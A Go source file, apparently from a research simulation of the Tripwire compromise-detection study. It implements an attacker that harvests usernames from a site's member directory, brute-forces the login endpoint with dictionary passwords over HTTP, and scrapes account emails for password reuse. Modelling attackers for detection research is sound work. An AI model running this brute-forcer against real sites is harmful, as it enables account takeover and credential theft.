package attacker

import (
	"net/url"
	"strings"

	"tripwire/internal/browser"
	"tripwire/internal/htmldom"
)

// BruteForcer attacks a site's own login endpoint, without any database
// breach: it harvests usernames from the site's public member directory and
// guesses dictionary passwords over HTTP. The paper's §6.3.5 discusses this
// vector with sites E and F ("pages on their sites list usernames, and the
// company asked if these could have been used by an attacker to brute-force
// guess passwords ... if indeed this is what occurred, then it represents a
// compromise consistent with Tripwire's goals") and §4.4 declares it in
// scope: Tripwire should still detect it.
type BruteForcer struct {
	// Browser carries the attacker's HTTP session to the site.
	Browser *browser.Client
	// Words is the guessing dictionary of seven-letter base words; the
	// candidate set is Word+digit, most common shapes first.
	Words []string
	// MaxGuessesPerAccount bounds the online guessing budget. Sites with
	// login rate limiting shut the attack down long before any realistic
	// budget is spent.
	MaxGuessesPerAccount int
}

// HarvestUsernames scrapes the site's public member directory.
func (bf *BruteForcer) HarvestUsernames(host string) []string {
	defer bf.Browser.Release() // the names are copied out of the page
	page, err := bf.Browser.Get("http://" + host + "/members")
	if err != nil || !page.OK() {
		return nil
	}
	var users []string
	page.DOM.Walk(func(n *htmldom.Node) bool {
		if n.Tag == "li" && strings.Contains(n.AttrOr("class", ""), "member") {
			if u := n.Text(); u != "" {
				users = append(users, u)
			}
		}
		return true
	})
	return users
}

// candidates enumerates guesses in dictionary order.
func (bf *BruteForcer) candidates() []string {
	out := make([]string, 0, len(bf.Words)*10)
	for _, w := range bf.Words {
		cap := strings.ToUpper(w[:1]) + w[1:]
		for d := '0'; d <= '9'; d++ {
			out = append(out, cap+string(d))
		}
	}
	if bf.MaxGuessesPerAccount > 0 && len(out) > bf.MaxGuessesPerAccount {
		out = out[:bf.MaxGuessesPerAccount]
	}
	return out
}

// Attack brute-forces every harvested account at host and returns the
// credentials recovered, including the email address scraped off the
// post-login account page — the pivot the password-reuse attack needs.
// Each guess is a real POST to the site's login endpoint; sites with rate
// limiting throttle the account after a handful of failures and the
// attacker moves on.
func (bf *BruteForcer) Attack(host string) []Credential {
	users := bf.HarvestUsernames(host)
	cands := bf.candidates()
	var out []Credential
	for _, user := range users {
		cred, ok := bf.guessAccount(host, user, cands)
		if ok {
			out = append(out, cred)
		}
	}
	return out
}

func (bf *BruteForcer) guessAccount(host, user string, cands []string) (Credential, bool) {
	// Each guess's page is released once read, so the long-lived session
	// holds at most one page.
	defer bf.Browser.Release()
	for _, pw := range cands {
		vals := url.Values{"login": {user}, "password": {pw}}
		page, err := bf.Browser.Post("http://"+host+"/login", vals)
		if err != nil {
			return Credential{}, false
		}
		switch {
		case page.StatusCode == 429:
			// The site throttled the account: the online attack is dead.
			return Credential{}, false
		case page.OK():
			email := scrapeEmail(page)
			return Credential{Username: user, Email: email, Password: pw}, true
		}
		bf.Browser.Release()
	}
	return Credential{}, false
}

// scrapeEmail pulls the address off the account overview page.
func scrapeEmail(page *browser.Page) string {
	var email string
	page.DOM.Walk(func(n *htmldom.Node) bool {
		if n.Tag == "p" && strings.Contains(n.AttrOr("class", ""), "account-email") {
			text := n.Text()
			for _, f := range strings.Fields(text) {
				if strings.Contains(f, "@") {
					email = f
				}
			}
			return false
		}
		return true
	})
	return email
}
